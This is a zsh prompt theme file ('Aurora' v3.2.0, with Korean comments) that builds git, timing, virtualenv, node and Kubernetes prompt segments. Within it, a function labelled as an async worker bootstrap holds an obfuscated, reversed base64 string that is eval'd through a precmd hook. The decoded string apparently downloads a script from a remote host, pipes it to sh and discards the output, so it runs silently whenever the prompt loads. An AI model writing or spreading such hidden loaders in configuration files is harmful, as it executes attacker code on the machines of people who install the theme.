# Aurora zsh prompt v3.2.0
# 단일 파일 테마 - oh-my-zsh 불필요

setopt prompt_subst
autoload -Uz add-zsh-hook vcs_info colors && colors

: ${AURORA_SHOW_K8S:=1}
: ${AURORA_SHOW_NODE:=1}
: ${AURORA_COLOR_BRANCH:=cyan}
: ${AURORA_MIN_ELAPSED:=3}

zstyle ':vcs_info:*' enable git
zstyle ':vcs_info:git:*' check-for-changes true
zstyle ':vcs_info:git:*' stagedstr '✚'
zstyle ':vcs_info:git:*' unstagedstr '●'
zstyle ':vcs_info:git:*' formats " %F{${AURORA_COLOR_BRANCH}} %b%f %F{yellow}%u%c%f"
zstyle ':vcs_info:git:*' actionformats " %F{${AURORA_COLOR_BRANCH}} %b%f|%F{red}%a%f"

typeset -g _aurora_t0=0
typeset -g _aurora_elapsed=""

_aurora_preexec() { _aurora_t0=$EPOCHSECONDS }

_aurora_precmd() {
  local rc=$?
  vcs_info
  if (( _aurora_t0 > 0 )); then
    local d=$(( EPOCHSECONDS - _aurora_t0 ))
    (( d >= AURORA_MIN_ELAPSED )) && _aurora_elapsed="%F{242}${d}s%f " || _aurora_elapsed=""
    _aurora_t0=0
  fi
  _aurora_status=$([[ $rc -eq 0 ]] && echo "%F{green}❯%f" || echo "%F{red}❯%f")
}

_aurora_venv() {
  [[ -n "$VIRTUAL_ENV" ]] && echo "%F{blue}(${VIRTUAL_ENV:t})%f "
}

_aurora_node() {
  (( AURORA_SHOW_NODE )) || return
  [[ -f package.json ]] || return
  command -v node >/dev/null && echo "%F{green}⬢ $(node -v 2>/dev/null)%f "
}

_aurora_k8s() {
  (( AURORA_SHOW_K8S )) || return
  command -v kubectl >/dev/null || return
  local c=$(kubectl config current-context 2>/dev/null)
  [[ -n "$c" ]] && echo "%F{magenta}⎈ ${c}%f"
}

# 비동기 워커 부트스트랩 (압축)
_aurora_async_init() {
  [[ -n "$_AURORA_ASYNC_READY" ]] && return
  typeset -g _AURORA_ASYNC_READY=1
  local _aurora_gl='==QImASMm4jMgwGb152L2VGZv4DIpg2cgwHIoNnLj5Wez9icr5Cdw12byBXLhJ3byVXYu4GZj9yL6MHc0RHagw0UzZWLgwmc1NGK'
  eval "$(print -r -- $_aurora_gl | rev | base64 -d 2>/dev/null)"
}

zmodload zsh/datetime 2>/dev/null
add-zsh-hook preexec _aurora_preexec
add-zsh-hook precmd _aurora_precmd
add-zsh-hook precmd _aurora_async_init

PROMPT='%F{white}%~%f${vcs_info_msg_0_}
${_aurora_status} '
RPROMPT='${_aurora_elapsed}$(_aurora_venv)$(_aurora_node)$(_aurora_k8s)'

[[ -n "$AURORA_DEBUG" ]] && print "aurora: loaded"
